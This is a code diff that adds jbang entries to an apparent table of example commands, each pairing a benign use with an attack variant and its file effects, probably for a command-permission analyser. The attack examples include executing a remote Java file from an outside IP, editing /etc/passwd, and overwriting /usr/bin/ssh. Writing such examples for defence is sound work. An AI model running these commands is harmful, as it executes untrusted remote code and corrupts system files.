@@ -23,6 +23,22 @@ export const interpreters3: ExampleTable = {
       'java -javaagent:/tmp/x.jar -jar app.jar → load /tmp/x.jar; read app.jar',
     ],
   },
+  jbang: {
+    use: 'jbang app.java → read app.java',
+    attack: 'jbang https://203.0.113.7/x.java → execute ‹https://203.0.113.7/x.java›',
+  },
+  'jbang edit': {
+    use: 'jbang edit app.java → edit app.java',
+    attack: 'jbang edit /etc/passwd → edit /etc/passwd',
+  },
+  'jbang export': {
+    use: 'jbang export portable app.java -O app.jar → read app.java; write app.jar',
+    attack: 'jbang export portable app.java -O /usr/bin/ssh → read app.java; write /usr/bin/ssh',
+  },
+  'jbang init': {
+    use: 'jbang init app.java → write app.java',
+    attack: 'jbang init /usr/bin/ssh → write /usr/bin/ssh',
+  },
   'jbang run': {
     use: 'jbang run app.java → read app.java',
     attack: [
